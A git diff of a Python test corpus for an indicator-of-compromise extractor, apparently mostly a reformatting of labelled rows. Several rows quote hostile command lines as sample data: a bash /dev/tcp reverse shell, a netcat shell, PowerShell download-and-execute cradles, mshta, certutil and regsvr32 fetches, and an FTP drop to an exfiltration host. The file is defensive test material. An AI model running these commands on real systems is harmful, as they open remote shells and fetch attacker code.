@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - a data table of verbatim log lines; wrapping them would hide the data
 r"""Labelled accuracy corpus for asisdk.ioc: realistic snippets and every trap of the policy.
 
 Each case is the text and the complete set of indicators it holds (every type). Values are
@@ -17,13 +18,10 @@ class Case:
     expected: dict[str, frozenset[str]] = field(default_factory=dict)
 
 
-def C(text: str, **expected: str | list[str]) -> Case:  # noqa: N802 - a terse table row
+def C(text: str, **expected: str | list[str]) -> Case:
     return Case(
         text,
-        {
-            k: frozenset([v] if isinstance(v, str) else v)
-            for k, v in expected.items()
-        },
+        {k: frozenset([v] if isinstance(v, str) else v) for k, v in expected.items()},
     )
 
 
@@ -48,10 +46,16 @@ CASES: list[Case] = [
     C("Installer setup-2.1.0.4.exe dropped"),
     C("OID 1.3.6.1.4.1.311.21.8 in the certificate"),
     C("the value 1.2.3.4.5 is a longer dotted number"),
-    C("host \\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe",
-      ipv4="10.20.30.40", windows_path="\\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe"),
-    C("bash -i >& /dev/tcp/45.137.21.9/4444 0>&1",
-      ipv4="45.137.21.9", linux_path="/dev/tcp/45.137.21.9/4444"),
+    C(
+        "host \\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe",
+        ipv4="10.20.30.40",
+        windows_path="\\\\10.20.30.40\\c$\\Windows\\Temp\\p.exe",
+    ),
+    C(
+        "bash -i >& /dev/tcp/45.137.21.9/4444 0>&1",
+        ipv4="45.137.21.9",
+        linux_path="/dev/tcp/45.137.21.9/4444",
+    ),
     C("nc 172.67.1.9 8080 -e /bin/sh", ipv4="172.67.1.9", linux_path="/bin/sh"),
     C("(from 91.92.240.1)", ipv4="91.92.240.1"),
     C("IP: '5.188.86.172'.", ipv4="5.188.86.172"),
@@ -67,7 +71,10 @@ CASES: list[Case] = [
     C("192.168.1.1.", ipv4="192.168.1.1"),
     # ---------------------------------------------------------------- ipv6
     C("IPv6 C2 2001:db8:4f2a::17 seen", ipv6="2001:db8:4f2a::17"),
-    C("full 2001:0db8:85a3:0000:0000:8a2e:0370:7334 form", ipv6="2001:0db8:85a3:0000:0000:8a2e:0370:7334"),
+    C(
+        "full 2001:0db8:85a3:0000:0000:8a2e:0370:7334 form",
+        ipv6="2001:0db8:85a3:0000:0000:8a2e:0370:7334",
+    ),
     C("[2001:db8:85a3::8a2e:370:7334]:443 listener", ipv6="2001:db8:85a3::8a2e:370:7334"),
     C("link-local fe80::1%eth0 dropped", ipv6="fe80::1"),
     C("loopback ::1 only", ipv6="::1"),
@@ -86,52 +93,93 @@ CASES: list[Case] = [
     C("1:2:3:4:5:6:7:8", ipv6="1:2:3:4:5:6:7:8"),
     C("12:00:00 UTC"),
     # ---------------------------------------------------------------- url
-    C("Payload at https://cdn.evil-host.com/a/b.php?id=5&x=1#frag.",
-      url="https://cdn.evil-host.com/a/b.php?id=5&x=1#frag", dns="cdn.evil-host.com"),
+    C(
+        "Payload at https://cdn.evil-host.com/a/b.php?id=5&x=1#frag.",
+        url="https://cdn.evil-host.com/a/b.php?id=5&x=1#frag",
+        dns="cdn.evil-host.com",
+    ),
     C("hxxps://paste[.]ee/r/XyZ12", url="https://paste.ee/r/XyZ12", dns="paste.ee"),
-    C("hXXp://update-check[.]net/api/v2/ping?id=7781",
-      url="http://update-check.net/api/v2/ping?id=7781", dns="update-check.net"),
-    C("fxp://files[.]exfil-store[.]org/up/", url="ftp://files.exfil-store.org/up/", dns="files.exfil-store.org"),
-    C("ftp://drop:Winter2024@files.exfil-store.org:2121/up/",
-      url="ftp://drop:Winter2024@files.exfil-store.org:2121/up/", dns="files.exfil-store.org"),
+    C(
+        "hXXp://update-check[.]net/api/v2/ping?id=7781",
+        url="http://update-check.net/api/v2/ping?id=7781",
+        dns="update-check.net",
+    ),
+    C(
+        "fxp://files[.]exfil-store[.]org/up/",
+        url="ftp://files.exfil-store.org/up/",
+        dns="files.exfil-store.org",
+    ),
+    C(
+        "ftp://drop:Winter2024@files.exfil-store.org:2121/up/",
+        url="ftp://drop:Winter2024@files.exfil-store.org:2121/up/",
+        dns="files.exfil-store.org",
+    ),
     C("see [link](https://paste.ee/r/XyZ12)", url="https://paste.ee/r/XyZ12", dns="paste.ee"),
-    C("(see https://en.wikipedia.org/wiki/Foo_(bar))",
-      url="https://en.wikipedia.org/wiki/Foo_(bar)", dns="en.wikipedia.org"),
+    C(
+        "(see https://en.wikipedia.org/wiki/Foo_(bar))",
+        url="https://en.wikipedia.org/wiki/Foo_(bar)",
+        dns="en.wikipedia.org",
+    ),
     C("<https://evil.com/x>", url="https://evil.com/x", dns="evil.com"),
     C("'http://evil.com/a'|grep x", url="http://evil.com/a", dns="evil.com"),
     C('"https://evil.com/q?x=1"', url="https://evil.com/q?x=1", dns="evil.com"),
     C("`https://evil.com/code`", url="https://evil.com/code", dns="evil.com"),
     C("**https://evil.com/bold**", url="https://evil.com/bold", dns="evil.com"),
     C("http://evil.com/a|b", url="http://evil.com/a", dns="evil.com"),
-    C("访问 http://evil-cn.example.com/a.php？谢谢",
-      url="http://evil-cn.example.com/a.php", dns="evil-cn.example.com"),
+    C(
+        "访问 http://evil-cn.example.com/a.php？谢谢",
+        url="http://evil-cn.example.com/a.php",
+        dns="evil-cn.example.com",
+    ),
     C("链接：https://evil.cn/x。", url="https://evil.cn/x", dns="evil.cn"),
     C("https://evil.com/%2e%2e/etc", url="https://evil.com/%2e%2e/etc", dns="evil.com"),
-    C("redirect https://t.co/r?u=https://evil.org/land.html",
-      url=["https://t.co/r?u=https://evil.org/land.html", "https://evil.org/land.html"],
-      dns=["t.co", "evil.org"]),
+    C(
+        "redirect https://t.co/r?u=https://evil.org/land.html",
+        url=["https://t.co/r?u=https://evil.org/land.html", "https://evil.org/land.html"],
+        dns=["t.co", "evil.org"],
+    ),
     C("wss://ws.evil.io:8443/sock", url="wss://ws.evil.io:8443/sock", dns="ws.evil.io"),
     C("sftp://user@backup.corp.net/x", url="sftp://user@backup.corp.net/x", dns="backup.corp.net"),
     C("http://10.0.0.5:8080/shell.jsp", url="http://10.0.0.5:8080/shell.jsp", ipv4="10.0.0.5"),
     C("http://intranet/login", url="http://intranet/login"),
     C("http://payload.zip/x", url="http://payload.zip/x", dns="payload.zip"),
-    C(f"https://evil.com/dl/{H_MD5}.bin", url=f"https://evil.com/dl/{H_MD5}.bin", dns="evil.com", md5=H_MD5),
+    C(
+        f"https://evil.com/dl/{H_MD5}.bin",
+        url=f"https://evil.com/dl/{H_MD5}.bin",
+        dns="evil.com",
+        md5=H_MD5,
+    ),
     C("https://evil.com/files/report.pdf", url="https://evil.com/files/report.pdf", dns="evil.com"),
     C("https://evil.com/install.sh", url="https://evil.com/install.sh", dns="evil.com"),
     C("HTTPS://EVIL.COM/Path", url="https://evil.com/Path", dns="evil.com"),
-    C("mshta.exe hxxps://cdn.invoice-portal[.]com/track.hta",
-      url="https://cdn.invoice-portal.com/track.hta", dns="cdn.invoice-portal.com"),
+    C(
+        "mshta.exe hxxps://cdn.invoice-portal[.]com/track.hta",
+        url="https://cdn.invoice-portal.com/track.hta",
+        dns="cdn.invoice-portal.com",
+    ),
     C("https://evil.com.", url="https://evil.com", dns="evil.com"),
-    C("https://evil.com/a, https://evil.com/b; end",
-      url=["https://evil.com/a", "https://evil.com/b"], dns="evil.com"),
+    C(
+        "https://evil.com/a, https://evil.com/b; end",
+        url=["https://evil.com/a", "https://evil.com/b"],
+        dns="evil.com",
+    ),
     C("curl -o x http://185.199.1.2/a.sh", url="http://185.199.1.2/a.sh", ipv4="185.199.1.2"),
     C("see _https://evil.com/u_", url="https://evil.com/u", dns="evil.com"),
-    C("iex(New-Object Net.WebClient).DownloadString('http://10.1.1.9/ps.ps1')",
-      url="http://10.1.1.9/ps.ps1", ipv4="10.1.1.9"),
-    C("https://xn--e1afmkfd.xn--p1ai/", url="https://xn--e1afmkfd.xn--p1ai/", dns="xn--e1afmkfd.xn--p1ai"),
+    C(
+        "iex(New-Object Net.WebClient).DownloadString('http://10.1.1.9/ps.ps1')",
+        url="http://10.1.1.9/ps.ps1",
+        ipv4="10.1.1.9",
+    ),
+    C(
+        "https://xn--e1afmkfd.xn--p1ai/",
+        url="https://xn--e1afmkfd.xn--p1ai/",
+        dns="xn--e1afmkfd.xn--p1ai",
+    ),
     # ---------------------------------------------------------------- dns
-    C("Domains: evil.com, bad-actor.net and c2.example.org.",
-      dns=["evil.com", "bad-actor.net", "c2.example.org"]),
+    C(
+        "Domains: evil.com, bad-actor.net and c2.example.org.",
+        dns=["evil.com", "bad-actor.net", "c2.example.org"],
+    ),
     C("resolve WWW.EVIL.COM", dns="www.evil.com"),
     C("evil[.]com and bad(.)net and worse{.}org", dns=["evil.com", "bad.net", "worse.org"]),
     C("evil[dot]com / x(dot)ru / a [dot] b [dot] info", dns=["evil.com", "x.ru", "a.b.info"]),
@@ -175,11 +223,22 @@ CASES: list[Case] = [
     C("host=ws01.corp.contoso.com user=bob", dns="ws01.corp.contoso.com"),
     C("CONTOSO\\alice logged on"),
     # ---------------------------------------------------------------- email
-    C("From: billing@invoice-portal.com", email="billing@invoice-portal.com", dns="invoice-portal.com"),
-    C("billing[@]invoice-portal[.]com sent it",
-      email="billing@invoice-portal.com", dns="invoice-portal.com"),
+    C(
+        "From: billing@invoice-portal.com",
+        email="billing@invoice-portal.com",
+        dns="invoice-portal.com",
+    ),
+    C(
+        "billing[@]invoice-portal[.]com sent it",
+        email="billing@invoice-portal.com",
+        dns="invoice-portal.com",
+    ),
     C("soc (at) example.com", email="soc@example.com", dns="example.com"),
-    C("john.doe+tag@Mail.Example.ORG", email="john.doe+tag@mail.example.org", dns="mail.example.org"),
+    C(
+        "john.doe+tag@Mail.Example.ORG",
+        email="john.doe+tag@mail.example.org",
+        dns="mail.example.org",
+    ),
     C("<ir-team@example.org>", email="ir-team@example.org", dns="example.org"),
     C("admin@пример.рф", email="admin@пример.рф", dns="пример.рф"),
     C("user@host.local is internal"),
@@ -208,33 +267,50 @@ CASES: list[Case] = [
     C(f"**{H_MD5}**", md5=H_MD5),
     # ---------------------------------------------------------------- windows_path
     C("C:\\Windows\\System32\\cmd.exe /c whoami", windows_path="C:\\Windows\\System32\\cmd.exe"),
-    C('"C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe" -k',
-      windows_path="C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe"),
+    C(
+        '"C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe" -k',
+        windows_path="C:\\Program Files (x86)\\Common Files\\Updater\\svc_host.exe",
+    ),
     C("'C:\\Program Files\\App\\app.exe'", windows_path="C:\\Program Files\\App\\app.exe"),
     C("%APPDATA%\\Microsoft\\upd.exe", windows_path="%APPDATA%\\Microsoft\\upd.exe"),
     C("$env:TEMP\\stage2.ps1", windows_path="$env:TEMP\\stage2.ps1"),
-    C("\\\\fileserver\\share\\tools\\psexec.exe", windows_path="\\\\fileserver\\share\\tools\\psexec.exe"),
-    C("\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\",
-      windows_path="\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\", dns="storage.exfil-store.org"),
-    C("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
-      registry_key="HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
-    C("HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
-      registry_key="HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command"),
+    C(
+        "\\\\fileserver\\share\\tools\\psexec.exe",
+        windows_path="\\\\fileserver\\share\\tools\\psexec.exe",
+    ),
+    C(
+        "\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\",
+        windows_path="\\\\storage.exfil-store.org@SSL\\DavWWWRoot\\inbox\\",
+        dns="storage.exfil-store.org",
+    ),
+    C(
+        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        registry_key="HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+    ),
+    C(
+        "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
+        registry_key="HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command",
+    ),
     C("CORP\\svc_backup account"),
     C("relative tools\\bin\\x.exe path"),
     C("..\\..\\windows\\win.ini traversal"),
     C("D:\\data\\dump.dmp.", windows_path="D:\\data\\dump.dmp"),
     C("(C:\\Windows\\Temp\\a.bat)", windows_path="C:\\Windows\\Temp\\a.bat"),
-    C("C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe, then",
-      windows_path="C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe"),
+    C(
+        "C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe, then",
+        windows_path="C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe",
+    ),
     C("c:\\windows\\syswow64\\rundll32.exe", windows_path="c:\\windows\\syswow64\\rundll32.exe"),
-    C("%SystemRoot%\\system32\\svchost.exe -k netsvcs", windows_path="%SystemRoot%\\system32\\svchost.exe"),
+    C(
+        "%SystemRoot%\\system32\\svchost.exe -k netsvcs",
+        windows_path="%SystemRoot%\\system32\\svchost.exe",
+    ),
     C("cmd.exe /c copy a b"),
     # ---------------------------------------------------------------- linux_path
     C("cat /etc/passwd", linux_path="/etc/passwd"),
     C("dropped /tmp/.X11-unix/.kworker", linux_path="/tmp/.X11-unix/.kworker"),
     C("~/.ssh/authorized_keys modified", linux_path="~/.ssh/authorized_keys"),
-    C("exe=\"/usr/bin/sudo\"", linux_path="/usr/bin/sudo"),
+    C('exe="/usr/bin/sudo"', linux_path="/usr/bin/sudo"),
     C("GET /index.php?id=1 HTTP/1.1"),
     C("POST /wp-admin/admin-ajax.php HTTP/1.1"),
     C("and/or TCP/IP Mozilla/5.0 AppleWebKit/537.36"),
@@ -250,8 +326,10 @@ CASES: list[Case] = [
     C("/lib64/ld-linux-x86-64.so.2", linux_path="/lib64/ld-linux-x86-64.so.2"),
     # ---------------------------------------------------------------- cve / mac / mixed
     C("exploits CVE-2023-23397 and cve-2021-44228", cve=["CVE-2023-23397", "CVE-2021-44228"]),
-    C("10.0.0.1 - - [10/Oct/2023:13:55:36 -0700] \"GET /a/b.php HTTP/1.1\" 200 2326",
-      ipv4="10.0.0.1"),
+    C(
+        '10.0.0.1 - - [10/Oct/2023:13:55:36 -0700] "GET /a/b.php HTTP/1.1" 200 2326',
+        ipv4="10.0.0.1",
+    ),
 ]
 
 
@@ -273,8 +351,14 @@ _INDICATORS: list[tuple[str, dict[str, str]]] = [
     ("203.0.113[.]46", {"ipv4": "203.0.113.46"}),
     ("malware-drop.net", {"dns": "malware-drop.net"}),
     ("malware-drop[.]org", {"dns": "malware-drop.org"}),
-    ("https://malware-drop.net/p/a.exe", {"url": "https://malware-drop.net/p/a.exe", "dns": "malware-drop.net"}),
-    ("hxxp://malware-drop[.]info/x", {"url": "http://malware-drop.info/x", "dns": "malware-drop.info"}),
+    (
+        "https://malware-drop.net/p/a.exe",
+        {"url": "https://malware-drop.net/p/a.exe", "dns": "malware-drop.net"},
+    ),
+    (
+        "hxxp://malware-drop[.]info/x",
+        {"url": "http://malware-drop.info/x", "dns": "malware-drop.info"},
+    ),
     (H_SHA256, {"sha256": H_SHA256}),
     (H_SHA1, {"sha1": H_SHA1}),
     (H_MD5, {"md5": H_MD5}),
@@ -312,80 +396,142 @@ _F1 = "4af465eb4ec83ac8e168ff1d34590ffde46406b7"
 _IP1 = "34efea060f868c5f5bc11a7a04255476d926f4b7"
 CASES += [
     C(r".\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll", url="http://server/file.sct"),
-    C(r'taskhostw.exe "C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe"'
-      " /frequentupdate SCHEDULEDTASK displaylevel=False",
-      windows_path=r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe"),
-    C('"msedge.exe" --single-argument microsoft-edge:https://go.microsoft.com/fwlink/?LinkId=528884',
-      url="https://go.microsoft.com/fwlink/?LinkId=528884", dns="go.microsoft.com"),
-    C("certutil  -urlcache -split -f http://127.0.0.1/ ", url="http://127.0.0.1/", ipv4="127.0.0.1"),
+    C(
+        r'taskhostw.exe "C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe"'
+        " /frequentupdate SCHEDULEDTASK displaylevel=False",
+        windows_path=r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe",
+    ),
+    C(
+        '"msedge.exe" --single-argument microsoft-edge:https://go.microsoft.com/fwlink/?LinkId=528884',
+        url="https://go.microsoft.com/fwlink/?LinkId=528884",
+        dns="go.microsoft.com",
+    ),
+    C(
+        "certutil  -urlcache -split -f http://127.0.0.1/ ",
+        url="http://127.0.0.1/",
+        ipv4="127.0.0.1",
+    ),
     C(r"net  share TestShare=c:\testshare /Grant:Users,Read", windows_path=r"c:\testshare"),
-    C(r"MpSigStub.exe /stub 1.1.17800.4 /payload 1.341.1331.0 /MpWUStub /program "
-      r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe WD /q",
-      windows_path=r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe"),
+    C(
+        r"MpSigStub.exe /stub 1.1.17800.4 /payload 1.341.1331.0 /MpWUStub /program "
+        r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe WD /q",
+        windows_path=r"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.341.1260.0.exe",
+    ),
     C('"LogTransport2.exe" 58F761C05F236BDC0A495FBA@AdobeID 0 0 NOVALUE NOVALUE'),
     C('"91.0.4472.114_91.0.4472.106_chrome_updater.exe" --verbose-logging --channel=stable'),
     C("ping  -n 1 www.bingnewspaper.com", dns="www.bingnewspaper.com"),
-    C('"msedge.exe" --single-argument https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view',
-      url="https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view", dns="drive.google.com"),
-    C('cmd  /c "echo Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://badguyserver/pwnme" ',
-      url="http://badguyserver/pwnme"),
-    C(r"netsh  start capture=yes IPv4.Address=1.2.3.4 tracefile=C:\\Users\\user\\AppData\\Local\\Temp\\bzzzzzz.txt",
-      ipv4="1.2.3.4", windows_path=r"C:\Users\user\AppData\Local\Temp\bzzzzzz.txt"),
-    C(r"csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On "
-      r"ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 MaxRequestThreads=16"),
-    C(r"net  use q: \\MSTICAlertsWin1\TestShare Bob_testing /User:adm1nistrator",
-      windows_path=r"\\MSTICAlertsWin1\TestShare"),
-    C('"setup.exe" --install-archive="C:\\Program Files (x86)\\Google\\Update\\Install\\'
-      '{4B8047EF-0509-4003-AAAB-3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp'
-      '\\CHROME_PATCH.PACKED.7Z" --previous-version="91.0.4472.106" --channel=stable',
-      windows_path="C:\\Program Files (x86)\\Google\\Update\\Install\\{4B8047EF-0509-4003-AAAB-"
-      "3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp\\CHROME_PATCH.PACKED.7Z",
-      sha1="d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0"),
-    C("mshta  https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
-      url="https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
-      dns="page.googledocpage.com"),
-    C(r"""cmd  /c ".\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS i^mPOr^T-^M^oDuLE biTsTr^ANSFe^R;"""
-      r"""^S^tar^t-bITSTRanS^fER -^SOURCE^ 'http://somedomain/best-kitten-names-1.jpg' ^-d^EStIN^At^IOn """
-      r"""^'C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg';" """,
-      url="http://somedomain/best-kitten-names-1.jpg",
-      windows_path=r"C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg"),
-    C(r'"csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline"',
-      windows_path=r"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline"),
-    C(r'.\powershell  -Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; '
-      r'Invoke-WebRequest -Uri http://badguyserver/pwnme"', url="http://badguyserver/pwnme"),
+    C(
+        '"msedge.exe" --single-argument https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view',
+        url="https://drive.google.com/file/d/1TDk3O5c-rObQ4pO6LmitCFduw1OqW1SK/view",
+        dns="drive.google.com",
+    ),
+    C(
+        'cmd  /c "echo Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://badguyserver/pwnme" ',
+        url="http://badguyserver/pwnme",
+    ),
+    C(
+        r"netsh  start capture=yes IPv4.Address=1.2.3.4 tracefile=C:\\Users\\user\\AppData\\Local\\Temp\\bzzzzzz.txt",
+        ipv4="1.2.3.4",
+        windows_path=r"C:\Users\user\AppData\Local\Temp\bzzzzzz.txt",
+    ),
+    C(
+        r"csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On "
+        r"ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 MaxRequestThreads=16"
+    ),
+    C(
+        r"net  use q: \\MSTICAlertsWin1\TestShare Bob_testing /User:adm1nistrator",
+        windows_path=r"\\MSTICAlertsWin1\TestShare",
+    ),
+    C(
+        '"setup.exe" --install-archive="C:\\Program Files (x86)\\Google\\Update\\Install\\'
+        "{4B8047EF-0509-4003-AAAB-3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp"
+        '\\CHROME_PATCH.PACKED.7Z" --previous-version="91.0.4472.106" --channel=stable',
+        windows_path="C:\\Program Files (x86)\\Google\\Update\\Install\\{4B8047EF-0509-4003-AAAB-"
+        "3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp\\CHROME_PATCH.PACKED.7Z",
+        sha1="d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0",
+    ),
+    C(
+        "mshta  https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
+        url="https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
+        dns="page.googledocpage.com",
+    ),
+    C(
+        r"""cmd  /c ".\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS i^mPOr^T-^M^oDuLE biTsTr^ANSFe^R;"""
+        r"""^S^tar^t-bITSTRanS^fER -^SOURCE^ 'http://somedomain/best-kitten-names-1.jpg' ^-d^EStIN^At^IOn """
+        r"""^'C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg';" """,
+        url="http://somedomain/best-kitten-names-1.jpg",
+        windows_path=r"C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg",
+    ),
+    C(
+        r'"csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline"',
+        windows_path=r"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline",
+    ),
+    C(
+        r'.\powershell  -Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; '
+        r'Invoke-WebRequest -Uri http://badguyserver/pwnme"',
+        url="http://badguyserver/pwnme",
+    ),
     C(r'"AGMService.exe" \\.\pipe\gc_pipe_rjwcoi 3', windows_path=r"\\.\pipe\gc_pipe_rjwcoi"),
-    C(r'cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp"'
-      r' "c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP"',
-      windows_path=[r"C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp",
-                    r"c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP"],
-      sha1=["694508ad91b1b5f81c0e1947600bec8cd46844e3", "e76f5ffa90f556a4730cd4f989e4835d6639c9c7"]),
-    C(f'"powershell.exe" -w Hidden -ep Bypass -file "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\'
-      f'FilePII_{_F1}.ps1" Ipv4PII_{_IP1}/ss 408222891',
-      windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.ps1",
-      sha1=[_P1, _F1, _IP1]),
-    C(f'wscript  "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js" page.googledocpage.com/ 1 ',
-      windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js",
-      sha1=[_P1, _F1], dns="page.googledocpage.com"),
-    C("""[{'USER_END': ['pid=28097', 'uid=0', 'auid=0', 'ses=196095', "msg='op=PAM:session_close", """
-      """'acct="root"', 'exe="/usr/sbin/cron"', 'hostname=?', 'addr=?', 'terminal=cron', "res=success'"]}]""",
-      linux_path="/usr/sbin/cron"),
-    C("""{'PATH': ['item=1', 'name="/lib64/ld-linux-x86-64.so.2"', 'inode=2081', 'dev=08:01', 'mode=0100755', """
-      """'rdev=00:00', 'cap_fp=0000000000000000']}""", linux_path="/lib64/ld-linux-x86-64.so.2"),
-    C("""{'CWD': ['cwd="/var/lib/waagent/WALinuxAgent-2.2.36"']}""",
-      linux_path="/var/lib/waagent/WALinuxAgent-2.2.36"),
-    C(".\\powershell  -command {(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile("
-      "'https://blah/png','google.png')}", url="https://blah/png"),
-    C('"Teams.exe" "msteams:https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0'
-      '?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch"',
-      url="https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0"
-      "?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch",
-      dns="teams.microsoft.com"),
+    C(
+        r'cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp"'
+        r' "c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP"',
+        windows_path=[
+            r"C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp",
+            r"c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP",
+        ],
+        sha1=[
+            "694508ad91b1b5f81c0e1947600bec8cd46844e3",
+            "e76f5ffa90f556a4730cd4f989e4835d6639c9c7",
+        ],
+    ),
+    C(
+        f'"powershell.exe" -w Hidden -ep Bypass -file "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\'
+        f'FilePII_{_F1}.ps1" Ipv4PII_{_IP1}/ss 408222891',
+        windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.ps1",
+        sha1=[_P1, _F1, _IP1],
+    ),
+    C(
+        f'wscript  "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js" page.googledocpage.com/ 1 ',
+        windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js",
+        sha1=[_P1, _F1],
+        dns="page.googledocpage.com",
+    ),
+    C(
+        """[{'USER_END': ['pid=28097', 'uid=0', 'auid=0', 'ses=196095', "msg='op=PAM:session_close", """
+        """'acct="root"', 'exe="/usr/sbin/cron"', 'hostname=?', 'addr=?', 'terminal=cron', "res=success'"]}]""",
+        linux_path="/usr/sbin/cron",
+    ),
+    C(
+        """{'PATH': ['item=1', 'name="/lib64/ld-linux-x86-64.so.2"', 'inode=2081', 'dev=08:01', 'mode=0100755', """
+        """'rdev=00:00', 'cap_fp=0000000000000000']}""",
+        linux_path="/lib64/ld-linux-x86-64.so.2",
+    ),
+    C(
+        """{'CWD': ['cwd="/var/lib/waagent/WALinuxAgent-2.2.36"']}""",
+        linux_path="/var/lib/waagent/WALinuxAgent-2.2.36",
+    ),
+    C(
+        ".\\powershell  -command {(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile("
+        "'https://blah/png','google.png')}",
+        url="https://blah/png",
+    ),
+    C(
+        '"Teams.exe" "msteams:https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0'
+        '?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch"',
+        url="https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0"
+        "?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch",
+        dns="teams.microsoft.com",
+    ),
